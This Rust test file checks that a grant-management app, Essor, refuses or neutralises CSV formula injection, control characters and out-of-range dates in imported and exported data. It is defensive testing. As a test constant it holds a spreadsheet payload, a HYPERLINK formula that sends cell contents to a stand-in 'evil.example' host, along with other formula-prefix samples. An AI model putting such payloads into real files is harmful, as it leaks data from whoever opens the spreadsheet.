//! Hardening after an attack run (issue 20, items 3 to 5), on both backends: every text of an
//! imported SCDL row under the API's control-character rules; imported dates bounded like the
//! API's; no CSV cell that a spreadsheet runs as a formula (refused at input where a text
//! reaches a CSV, neutralised with a leading `'` for texts stored before); XLSX cells of text
//! written as strings, never as formulas.

use std::collections::HashMap;
use std::io::{Cursor, Read};

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use essor::domain::lifecycle::DossierStatus::UnderReview;
use essor::domain::scdl::FIELDS;
use serde_json::{json, Value};

use crate::builders::{etag, DossierBuilder};
use crate::exports::{granted, open_envelope};
use crate::helpers::{
    both_backends, dossier_body, new_siret, organisation_body, siret_from, spawn_app, Backend, Resp, TestApp,
    TERRITORY,
};
use crate::imports::file;
use crate::scdl::csv_rows;

both_backends!(
    every_imported_text_refuses_control_characters,
    imported_dates_are_bounded_like_the_api,
    formula_prefixes_are_refused_where_a_text_reaches_a_csv,
    formula_prefixes_are_refused_in_imported_texts,
    texts_stored_before_are_neutralised_in_every_csv,
    xlsx_writes_formula_looking_texts_as_strings,
);

const IMPORT: &str = "/api/v1/imports/scdl-subventions";

/// The attack run's organisation name.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"clic")"#;

/// The beneficiary of [`scdl_row`]'s rows.
fn beneficiary() -> String {
    siret_from(4_123_456_780_001)
}

/// A valid SCDL row of the test territory (its SIRET as `spawn_app` registers it), with the
/// values of `changes` instead, by SCDL column.
fn scdl_row(changes: &[(&str, &str)]) -> String {
    let mut values: Vec<String> = [
        "Métropole Rouen Normandie",
        &siret_from(2000437420001),
        "2021-06-30",
        "DEL-2021-42",
        "Les Ateliers, Solidaires",
        &beneficiary(),
        "",
        "Rénovation de l'atelier",
        "47800.20",
        "aide en numéraire",
        "unique",
        "2021-09-01",
        "",
        "non",
        "1.00",
        "DI-ESS",
    ]
    .map(str::to_string)
    .to_vec();
    for (field, value) in changes {
        let i = FIELDS.iter().position(|f| f == field).unwrap_or_else(|| panic!("no column {field}"));
        values[i] = value.to_string();
    }
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(&values).unwrap();
    String::from_utf8(writer.into_inner().unwrap()).unwrap().trim_end_matches("\r\n").to_string()
}

/// The value [`scdl_row`] gives `field` when unchanged.
fn default_value(field: &str) -> String {
    let row = scdl_row(&[]);
    let record = csv_rows(&row).remove(0);
    record[FIELDS.iter().position(|f| *f == field).unwrap()].clone()
}

/// Imports `csv` as finance, messages in English.
async fn import(app: &TestApp, csv: &str, dry_run: bool) -> Resp {
    let path = if dry_run { format!("{IMPORT}?dry_run=true") } else { IMPORT.to_string() };
    let req = app
        .finance()
        .request(reqwest::Method::POST, &path)
        .header("Content-Type", "text/csv")
        .header("Accept-Language", "en")
        .body(csv.to_string());
    app.send(req).await
}

/// `(line, field, code)` of each error of a problem.
fn errors_of(problem: &Value) -> Vec<(u64, String, String)> {
    problem["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| {
            (
                e["line"].as_u64().unwrap_or(0),
                e["field"].as_str().unwrap().to_string(),
                e["code"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn expected(errors: &[(u64, &str, &str)]) -> Vec<(u64, String, String)> {
    errors.iter().map(|(l, f, c)| (*l, f.to_string(), c.to_string())).collect()
}

/// What an import writes: imported dossiers, their SCDL terms, organisations.
fn stored(app: &TestApp) -> (i64, i64, i64) {
    (
        app.count("SELECT COUNT(*) AS n FROM dossiers WHERE imported"),
        app.count("SELECT COUNT(*) AS n FROM imported_grants"),
        app.count("SELECT COUNT(*) AS n FROM organisations"),
    )
}

/// Whether a spreadsheet opening the cell would run it (OWASP "CSV injection"); a number
/// Essor wrote (`-5`) is a number, not text.
fn runs_as_formula(cell: &str) -> bool {
    cell.parse::<f64>().is_err()
        && (cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@']))
}

/// Item 3: a NUL in `idRAE` was a 500 on PostgreSQL; SQLite stored it, and an ESC, and the SCDL
/// export wrote them back. Every column now goes through the API's rule for one line of text.
async fn every_imported_text_refuses_control_characters(backend: Backend) {
    let app = spawn_app(backend).await;
    app.open_scheme("DI-ESS").await;
    let before = stored(&app);

    let attack = file(&[
        scdl_row(&[("idRAE", "A\u{0}1"), ("referenceDecision", "DEL-1")]),
        scdl_row(&[("idRAE", "\u{1b}[2J"), ("referenceDecision", "DEL-2")]),
    ]);
    for dry_run in [false, true] {
        let res = import(&app, &attack, dry_run).await;
        let problem = res.problem(422);
        assert_eq!(
            errors_of(problem),
            expected(&[(2, "idRAE", "control_character"), (3, "idRAE", "control_character")])
        );
        assert_eq!(problem["errors"][0]["message"], "idRAE must not contain the control character U+0000");
        assert_eq!(problem["errors"][1]["message"], "idRAE must not contain the control character U+001B");
    }
    assert_eq!(stored(&app), before, "nothing written");

    // Each column in turn, one row each, a NUL after its valid value: that column's error
    // alone (not also its format's), on its line.
    let rows: Vec<String> =
        FIELDS.iter().map(|field| scdl_row(&[(field, &format!("{}\u{0}", default_value(field)))])).collect();
    let res = import(&app, &file(&rows), false).await;
    let want: Vec<(u64, String, String)> = FIELDS
        .iter()
        .enumerate()
        .map(|(i, field)| (i as u64 + 2, field.to_string(), "control_character".to_string()))
        .collect();
    assert_eq!(errors_of(res.problem(422)), want);
    assert_eq!(stored(&app), before, "nothing written");

    // Without the control characters, the same texts import, kept as written.
    let clean = file(&[scdl_row(&[("idRAE", "A1")])]);
    assert_eq!(import(&app, &clean, false).await.ok(200)["imported"], 1);
    assert_eq!(app.count("SELECT COUNT(*) AS n FROM imported_grants WHERE rae_id = 'A1'"), 1);
}

/// Item 4: a `dateConvention` of year 1 was imported as a grant of year 1, which no export or
/// total ever counts. Imported dates are bounded like the API's, each error on its line.
async fn imported_dates_are_bounded_like_the_api(backend: Backend) {
    let app = spawn_app(backend).await;
    app.open_scheme("DI-ESS").await;
    let before = stored(&app);
    let today = chrono::Utc::now().date_naive();
    let rows = [
        // Line 2: the attack run's date.
        scdl_row(&[("dateConvention", "0001-01-01"), ("referenceDecision", "DEL-1")]),
        // Line 3: the day before the first the API accepts for a decision.
        scdl_row(&[("dateConvention", "1999-12-31"), ("referenceDecision", "DEL-2")]),
        // Lines 4 to 6: a payment date before 2000, a period past 2100, a period that ends
        // before it starts.
        scdl_row(&[("datesPeriodeVersement", "0001-01-01"), ("referenceDecision", "DEL-3")]),
        scdl_row(&[("datesPeriodeVersement", "2021-09-01/2101-01-01"), ("referenceDecision", "DEL-4")]),
        scdl_row(&[("datesPeriodeVersement", "2021-09-01/2021-06-30"), ("referenceDecision", "DEL-5")]),
    ];
    for dry_run in [false, true] {
        let res = import(&app, &file(&rows), dry_run).await;
        let problem = res.problem(422);
        assert_eq!(
            errors_of(problem),
            expected(&[
                (2, "dateConvention", "out_of_range"),
                (3, "dateConvention", "out_of_range"),
                (4, "datesPeriodeVersement", "out_of_range"),
                (5, "datesPeriodeVersement", "out_of_range"),
                (6, "datesPeriodeVersement", "out_of_range"),
            ])
        );
        assert_eq!(
            problem["errors"][0]["message"],
            format!("dateConvention must be between 2000-01-01 and {today}")
        );
        assert_eq!(
            problem["errors"][2]["message"],
            "datesPeriodeVersement must be between 2000-01-01 and 2100-12-31"
        );
        assert_eq!(
            problem["errors"][4]["message"],
            "datesPeriodeVersement must be between 2021-09-01 and 2100-12-31"
        );
    }
    assert_eq!(stored(&app), before, "nothing written");
    // The future stays refused as before.
    let tomorrow = (today + chrono::Duration::days(1)).to_string();
    let res = import(&app, &file(&[scdl_row(&[("dateConvention", &tomorrow)])]), false).await;
    assert_eq!(errors_of(res.problem(422)), expected(&[(2, "dateConvention", "in_future")]));

    // The bounds themselves import, and the grant counts in its year's totals.
    let edge =
        scdl_row(&[("dateConvention", "2000-01-01"), ("datesPeriodeVersement", "2000-01-01/2100-12-31")]);
    assert_eq!(import(&app, &file(&[edge]), false).await.ok(200)["imported"], 1);
    let totals = app.finance().get("/api/v1/exports/annual-totals?year=2000").await.ok(200).clone();
    assert_eq!(
        (totals["total"]["grants"].as_i64(), totals["total"]["committed_cents"].as_i64()),
        (Some(1), Some(4_780_020))
    );
}

/// `(field, code)` of each error of a problem.
fn fields_of(problem: &Value) -> Vec<(String, String)> {
    errors_of(problem).into_iter().map(|(_, field, code)| (field, code)).collect()
}

fn refused(field: &str) -> Vec<(String, String)> {
    vec![(field.to_string(), "formula_prefix".to_string())]
}

/// Item 5, at input: the texts the SCDL file and the grants CSV publish (organisation name,
/// dossier title, decision reference, scheme name) refuse a leading `=`, `+`, `-` or `@`, after
/// any spaces, with a 422 naming the field; nothing is stored. Other texts are unchanged.
async fn formula_prefixes_are_refused_where_a_text_reaches_a_csv(backend: Backend) {
    let app = spawn_app(backend).await;
    let scheme = app.open_scheme("DI-ESS").await;
    let year = chrono::Datelike::year(&chrono::Utc::now().date_naive());
    open_envelope(&app, &scheme, year, 500_000_00).await;

    // The organisation's name, when it registers.
    for name in [HYPERLINK, "+33 6 12 34 56 78", "-Les Ateliers", "@Ateliers", "  =1+2"] {
        let siret = new_siret();
        let mut body = organisation_body(&siret);
        body["name"] = json!(name);
        let res = app.applicant_with_siret(&siret).post_in("/api/v1/organisations", &body, "en").await;
        let problem = res.problem(422);
        assert_eq!(fields_of(problem), refused("name"), "{name}");
        assert_eq!(
            problem["errors"][0]["message"],
            "name must not start with =, +, - or @ (after any spaces): a spreadsheet opening the CSV \
             files Essor writes would run it as a formula",
        );
        assert_eq!(app.count(&format!("SELECT COUNT(*) AS n FROM organisations WHERE siret = '{siret}'")), 0);
    }
    // The same in French.
    let siret = new_siret();
    let mut body = organisation_body(&siret);
    body["name"] = json!("=1");
    let res = app.applicant_with_siret(&siret).post_in("/api/v1/organisations", &body, "fr").await;
    assert_eq!(
        res.problem(422)["errors"][0]["message"],
        "Ce champ ne doit pas commencer par =, +, - ou @ (espaces exceptés) : un tableur ouvrant les \
         fichiers CSV qu'Essor écrit l'exécuterait comme une formule."
    );

    // A name that starts with a digit, or holds these characters further on, is a name.
    let applicant =
        app.register_applicant_with(|b| b["name"] = json!("3F Habitat = Solidaire @ Rouen - 2e")).await;

    // The name, when it changes: refused, the organisation unchanged.
    let path = format!("/api/v1/organisations/{}", applicant.organisation_id);
    let res = app.applicant(&applicant).patch(&path, &json!({"name": "-1"}), Some("\"v1\"")).await;
    assert_eq!(fields_of(res.problem(422)), refused("name"));
    let kept = app.applicant(&applicant).get(&path).await.ok(200).clone();
    assert_eq!(
        (kept["name"].as_str(), kept["version"].as_i64()),
        (Some("3F Habitat = Solidaire @ Rouen - 2e"), Some(1))
    );

    // The dossier's title (the SCDL `objet`), on creation and on change.
    let mut body = dossier_body(&scheme);
    body["title"] = json!("=1+2");
    let res = app.applicant(&applicant).post("/api/v1/dossiers", &body).await;
    assert_eq!(fields_of(res.problem(422)), refused("title"));
    assert_eq!(app.count("SELECT COUNT(*) AS n FROM dossiers"), 0);
    let draft = DossierBuilder::new(&app).scheme(&scheme).applicant(&applicant).draft().await;
    let res = app
        .applicant(&applicant)
        .patch(&draft.path(), &json!({"title": "@SUM(A1)"}), Some(&draft.etag()))
        .await;
    assert_eq!(fields_of(res.problem(422)), refused("title"));
    let kept = app.applicant(&applicant).get(&draft.path()).await.ok(200).clone();
    assert_eq!(kept["title"], "Rénovation de l'atelier de réemploi");
    assert_eq!(etag(&kept), draft.etag());

    // The decision's reference, on approval: the dossier stays under review, nothing committed.
    let d = DossierBuilder::new(&app).scheme(&scheme).applicant(&applicant).in_status(UnderReview).await;
    let today = chrono::Utc::now().date_naive().to_string();
    let approval = |reference: &str| {
        json!({"granted_cents": 50_000_00, "decided_on": today, "decision_reference": reference,
               "justification": "Conforme à la délibération du conseil métropolitain."})
    };
    let key = || uuid::Uuid::new_v4().to_string();
    let res = app.instructor().post_once(&d.path_to("approve"), &approval("=1+2"), &key()).await;
    assert_eq!(fields_of(res.problem(422)), refused("decision_reference"));
    let kept = app.instructor().get(&d.path()).await.ok(200).clone();
    assert_eq!((kept["status"].as_str(), &kept["decision_reference"]), (Some("under_review"), &Value::Null));
    assert_eq!(app.count("SELECT COUNT(*) AS n FROM envelope_movements WHERE kind = 'commitment'"), 0);
    // "DEL-…" and a reference starting with a digit are references.
    let approved = app.instructor().post_once(&d.path_to("approve"), &approval("2026-114 DEL"), &key()).await;
    assert_eq!(approved.ok(200)["decision_reference"], "2026-114 DEL");

    // The scheme's name (the SCDL `dispositifAide`).
    let res = app.admin().post("/api/v1/schemes", &json!({"code": "X-1", "name": "+Dispositif"})).await;
    assert_eq!(fields_of(res.problem(422)), refused("name"));
    assert_eq!(app.count("SELECT COUNT(*) AS n FROM schemes WHERE code = 'X-1'"), 0);
}

/// Item 5, at import: every text of a row the SCDL export republishes refuses a leading `=`,
/// `+`, `-` or `@` with its line and column, so what Essor publishes is what the file said.
async fn formula_prefixes_are_refused_in_imported_texts(backend: Backend) {
    let app = spawn_app(backend).await;
    app.open_scheme("DI-ESS").await;
    let before = stored(&app);
    let rows = [
        scdl_row(&[("referenceDecision", "=1+2")]),
        scdl_row(&[("nomBeneficiaire", HYPERLINK), ("referenceDecision", "DEL-3")]),
        scdl_row(&[("objet", "+SUM(A1)"), ("referenceDecision", "DEL-4")]),
        scdl_row(&[("conditionsVersement", "-1"), ("referenceDecision", "DEL-5")]),
        scdl_row(&[("idRAE", "@A1"), ("referenceDecision", "DEL-6")]),
        // Spaces before are no escape: the import trims them.
        scdl_row(&[("objet", "  =A1"), ("referenceDecision", "DEL-7")]),
    ];
    for dry_run in [false, true] {
        let res = import(&app, &file(&rows), dry_run).await;
        let problem = res.problem(422);
        assert_eq!(
            errors_of(problem),
            expected(&[
                (2, "referenceDecision", "formula_prefix"),
                (3, "nomBeneficiaire", "formula_prefix"),
                (4, "objet", "formula_prefix"),
                (5, "conditionsVersement", "formula_prefix"),
                (6, "idRAE", "formula_prefix"),
                (7, "objet", "formula_prefix"),
            ])
        );
        assert_eq!(
            problem["errors"][0]["message"],
            "referenceDecision must not start with =, +, - or @ (after any spaces): a spreadsheet opening \
             the CSV files Essor writes would run it as a formula"
        );
    }
    assert_eq!(stored(&app), before, "nothing written");
    // These characters further on are text.
    let fine = scdl_row(&[("objet", "2e tranche - travaux = 50 %"), ("nomBeneficiaire", "3F @ Rouen")]);
    assert_eq!(import(&app, &file(&[fine]), false).await.ok(200)["imported"], 1);
}

/// An approved grant of 2025 and an imported one, whose texts are then overwritten in the
/// database with formula-looking ones, as rows stored before the input rules may hold.
/// Returns the approved grant's dossier id.
async fn grants_stored_before(app: &TestApp) -> String {
    let scheme = app.open_scheme("DI-ESS").await;
    open_envelope(app, &scheme, 2025, 500_000_00).await;
    let applicant = app.register_applicant().await;
    let d = granted(app, &scheme, &applicant, "2025-03-12", 60_000_00).await;
    let imported = scdl_row(&[
        ("dateConvention", "2025-05-02"),
        ("datesPeriodeVersement", "2025-06-01"),
        ("idRAE", "AB12"),
    ]);
    assert_eq!(import(app, &file(&[imported]), false).await.ok(200)["imported"], 1);
    for sql in [
        format!("UPDATE organisations SET name = '{HYPERLINK}' WHERE id = '{}'", applicant.organisation_id),
        format!("UPDATE dossiers SET decision_reference = '=1+2', title = '+SUM(1)' WHERE id = '{}'", d.id),
        format!("UPDATE schemes SET name = '@cmd', code = '-X' WHERE id = '{scheme}'"),
        format!("UPDATE territories SET name = '-Rouen' WHERE code = '{TERRITORY}'"),
        "UPDATE imported_grants SET object = '-obj', payment_conditions = '=2+3', rae_id = '+1234'"
            .to_string(),
    ] {
        assert_eq!(app.try_execute(&sql).expect(&sql), 1, "{sql}");
    }
    d.id
}

/// The CSV at `path`, as records (header included), each checked to hold no cell a
/// spreadsheet runs.
async fn csv_without_formulas(app: &TestApp, path: &str) -> Vec<Vec<String>> {
    let res = app.finance().get(path).await;
    assert_eq!(res.status, 200, "{path}: {}", res.text);
    assert_eq!(res.header("content-type"), Some("text/csv; charset=utf-8"), "{path}");
    let rows = csv_rows(&res.text);
    for cell in rows.iter().flatten() {
        assert!(!runs_as_formula(cell), "{path}: {cell:?} would run as a formula");
    }
    rows
}

/// `header → value` of the record whose `key` column is `value`.
fn record_where(rows: &[Vec<String>], key: &str, value: &str) -> HashMap<String, String> {
    let at = rows[0].iter().position(|h| h == key).unwrap();
    let row = rows.iter().find(|r| r[at] == value).unwrap_or_else(|| panic!("no row {key} = {value}"));
    rows[0].iter().cloned().zip(row.iter().cloned()).collect()
}

/// Item 5, at output: texts stored before the input rules (here written straight into the
/// database) are written in every CSV with a leading `'`, as OWASP recommends; numbers, dates
/// and amounts are not text and are written as they are; JSON keeps the stored text.
async fn texts_stored_before_are_neutralised_in_every_csv(backend: Backend) {
    let app = spawn_app(backend).await;
    let approved = grants_stored_before(&app).await;

    // The grants list.
    let rows = csv_without_formulas(&app, "/api/v1/exports/grants?year=2025&format=csv").await;
    let grant = record_where(&rows, "dossier_id", &approved);
    assert_eq!(grant["beneficiary_name"], format!("'{HYPERLINK}"));
    assert_eq!(grant["decision_reference"], "'=1+2");
    assert_eq!(grant["scheme_code"], "'-X");
    assert_eq!((grant["decided_on"].as_str(), grant["granted_cents"].as_str()), ("2025-03-12", "6000000"));
    let json = app.finance().get("/api/v1/exports/grants?year=2025").await.ok(200).clone();
    let item = json["grants"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["dossier_id"] == approved.as_str())
        .unwrap()
        .clone();
    assert_eq!(
        (item["beneficiary_name"].as_str(), item["decision_reference"].as_str()),
        (Some(HYPERLINK), Some("=1+2"))
    );

    // The SCDL file: the approved grant, then the imported one (by date).
    let rows = csv_without_formulas(&app, "/api/v1/exports/scdl-subventions?year=2025").await;
    assert_eq!(rows.len(), 3);
    let scdl = |row: &Vec<String>| -> HashMap<String, String> {
        FIELDS.iter().map(|f| f.to_string()).zip(row.iter().cloned()).collect()
    };
    let (first, second) = (scdl(&rows[1]), scdl(&rows[2]));
    assert_eq!(first["nomAttribuant"], "'-Rouen");
    assert_eq!(first["referenceDecision"], "'=1+2");
    assert_eq!(first["nomBeneficiaire"], format!("'{HYPERLINK}"));
    assert_eq!(first["objet"], "'+SUM(1)");
    assert_eq!(first["dispositifAide"], "'@cmd");
    assert_eq!((first["dateConvention"].as_str(), first["montant"].as_str()), ("2025-03-12", "60000.00"));
    assert_eq!(second["objet"], "'-obj");
    assert_eq!(second["conditionsVersement"], "'=2+3");
    // idRAE has at most 5 characters in the standard: the quote takes the place of the last.
    assert_eq!(second["idRAE"], "'+123");
    assert_eq!((second["montant"].as_str(), second["pourcentageSubvention"].as_str()), ("47800.20", "1.00"));
    assert_eq!(second["datesPeriodeVersement"], "2025-06-01");

    // The totals.
    for path in [
        "/api/v1/exports/annual-totals?year=2025&format=csv",
        "/api/v1/exports/period-totals?from=2025&to=2025&format=csv",
    ] {
        let rows = csv_without_formulas(&app, path).await;
        let scheme = record_where(&rows, "row", "scheme");
        assert_eq!(scheme["scheme_code"], "'-X", "{path}");
        assert_eq!(record_where(&rows, "row", "total")["scheme_code"], "", "{path}");
    }
}

/// Reads an XLSX export: its one sheet's cells, whether any cell is a formula, the sheet's XML.
async fn xlsx(app: &TestApp, path: &str) -> (Vec<Vec<Data>>, bool, String) {
    let res = app.finance().request(reqwest::Method::GET, path).send().await.expect("sent");
    assert_eq!(res.status(), 200, "{path}");
    let bytes = res.bytes().await.expect("body").to_vec();
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).expect("a workbook");
    let sheet = book.sheet_names()[0].clone();
    let rows = book.worksheet_range(&sheet).expect("sheet").rows().map(<[Data]>::to_vec).collect();
    let formulas = book.worksheet_formula(&sheet).expect("formulas");
    let any_formula = formulas.used_cells().any(|(_, _, f)| !f.is_empty());
    let mut xml = String::new();
    zip::ZipArchive::new(Cursor::new(bytes))
        .expect("zip")
        .by_name("xl/worksheets/sheet1.xml")
        .expect("sheet1.xml")
        .read_to_string(&mut xml)
        .expect("XML");
    (rows, any_formula, xml)
}

/// XLSX cells of text are string cells: a formula-looking text is read back as that very text,
/// a string, and the sheet holds no formula. Nothing to neutralise, so nothing is.
async fn xlsx_writes_formula_looking_texts_as_strings(backend: Backend) {
    let app = spawn_app(backend).await;
    let approved = grants_stored_before(&app).await;

    let (rows, any_formula, xml) = xlsx(&app, "/api/v1/exports/grants?year=2025&format=xlsx").await;
    assert!(!any_formula && !xml.contains("<f>") && !xml.contains("<f "), "no formula in the sheet");
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|r| r[0] == Data::String(approved.clone())).expect("the grant's row");
    assert_eq!(row[column("beneficiary_name")], Data::String(HYPERLINK.to_string()));
    assert_eq!(row[column("decision_reference")], Data::String("=1+2".to_string()));
    assert_eq!(row[column("scheme_code")], Data::String("-X".to_string()));
    assert_eq!(row[column("granted")], Data::Float(60_000.0));

    for path in [
        "/api/v1/exports/annual-totals?year=2025&format=xlsx",
        "/api/v1/exports/period-totals?from=2025&to=2025&format=xlsx",
    ] {
        let (rows, any_formula, _) = xlsx(&app, path).await;
        assert!(!any_formula, "{path}");
        let code = rows[0].iter().position(|h| *h == "scheme_code").unwrap();
        assert_eq!(rows[1][code], Data::String("-X".to_string()), "{path}");
    }
}
